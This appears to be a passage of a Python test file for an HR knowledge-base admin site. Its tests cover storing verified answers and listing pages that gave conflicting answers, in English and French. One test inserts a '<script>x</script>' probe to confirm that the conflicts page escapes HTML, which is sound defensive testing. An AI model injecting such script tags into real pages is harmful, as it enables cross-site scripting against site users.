    form = dict(re.findall(r'name="(question|answer|source_url)" value="([^"]*)"', leave))
    client.post("/admin/verify", data={**form, "csrf_token": csrf})
    from knowledge.verified import VerifiedAnswers

    (v,) = VerifiedAnswers(redis_client).all()
    assert (v.answer, v.source_url) == ("25 jours", "http://i/conges")


def test_pages_that_disagreed_are_listed_for_hr_most_frequent_first(app, redis_client):
    from knowledge.conflicts import Conflict, ConflictLog

    client, _ = logged_in(app)
    assert "No conflicts in this period." in client.get("/admin/conflicts").text
    log = ConflictLog(redis_client)
    for question in ("How many days of leave?", "Combien de jours de congés ?", "How many days of leave?"):
        log.add(Conflict(question, "en", "http://i/leave", "27 days", "http://i/handbook", "25 days"))
    log.add(Conflict("<script>x</script> hours?", "en", "http://i/b", "9:00", "http://i/a", "8:00"))
    pairs = log.pairs()
    assert [(p.url_a, p.url_b, p.count) for p in pairs] == [
        ("http://i/handbook", "http://i/leave", 3),  # either order of the two pages is one pair
        ("http://i/a", "http://i/b", 1),
    ]
    assert pairs[0].questions == ["How many days of leave?", "Combien de jours de congés ?"]
    page = client.get("/admin/conflicts").text
    assert page.index("http://i/handbook") < page.index("http://i/a") and "27 days ≠ 25 days" in page
    assert "<script>x</script>" not in page and "&lt;script&gt;x&lt;/script&gt;" in page
    assert "Contradictions" in client.get("/admin/conflicts?lang=fr").text
